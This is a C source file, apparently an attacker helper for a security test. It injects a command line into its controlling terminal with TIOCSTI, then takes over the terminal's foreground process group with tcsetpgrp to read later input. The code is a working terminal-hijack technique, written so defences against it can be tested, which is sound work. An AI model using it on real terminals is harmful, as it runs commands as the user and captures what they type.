// SPDX-License-Identifier: (GPL-2.0-only OR MIT)
/*
 * A command that turns its terminal against whoever runs it (issue 12,
 * finding 1): it pushes a command line into the input of its controlling
 * terminal (TIOCSTI), so that the shell reads it once the command is gone,
 * and makes itself the terminal's foreground process group (tcsetpgrp), so
 * that it reads what is typed next. It says what worked on stdout, waits for
 * DIR/go (the test looks at the terminal meanwhile) and exits 42.
 *
 * Usage: sec_tty_attacker DIR LINE
 */
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include <sys/ioctl.h>

int main(int argc, char **argv)
{
	char go[4096];
	int fd, injected = 0, took, i;
	size_t k;

	if (argc != 3)
		return 2;
	snprintf(go, sizeof(go), "%s/go", argv[1]);
	fd = open("/dev/tty", O_RDWR);
	if (fd < 0) {
		printf("attacker no-tty\n");
		return 3;
	}
	for (k = 0; k < strlen(argv[2]); k++)
		injected += ioctl(fd, TIOCSTI, &argv[2][k]) == 0;
	/* A background group may still take the terminal when SIGTTOU is ignored. */
	signal(SIGTTOU, SIG_IGN);
	setpgid(0, 0);
	took = tcsetpgrp(fd, getpgrp()) == 0;
	printf("attacker injected=%d took=%d pgrp=%d\n", injected, took, (int)getpgrp());
	fflush(stdout);
	/* The test checks the terminal while this process holds it; 20 s at most. */
	for (i = 0; i < 2000 && access(go, F_OK); i++)
		usleep(10000);
	return 42;
}
